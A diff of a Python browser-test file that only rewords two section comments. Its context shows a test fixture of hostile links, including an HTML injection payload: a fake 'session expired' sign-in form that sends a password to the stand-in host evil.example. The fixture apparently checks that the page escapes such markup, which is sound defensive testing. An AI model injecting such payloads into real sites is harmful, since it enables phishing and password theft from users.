@@ -237,7 +237,7 @@ def test_stop_shows_no_error_badge(server):
         browser.close()
 
 
-# --- the classroom, round two (issue 19): layout, contrast, lessons, links ----------------------
+# --- the classroom: layout, contrast, lessons, links --------------------------------------------
 
 SIZES = [(1440, 900), (390, 844)]
 SLIDER = "input[aria-label='number input for Target layer speedup']"
@@ -568,7 +568,7 @@ def test_the_e2e_task_from_the_form_to_both_panes_and_its_lesson(task_server, wi
         assert "task model" not in page.inner_text("#page-header")
 
 
-# Links a stranger could post (issue 37): each part tries to draw a page element of its own.
+# Links a stranger could post: each part tries to draw a page element of its own.
 HOSTILE_LINK = {
     '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password" name="pw">'
     "<button>Sign in</button></form>": "1",
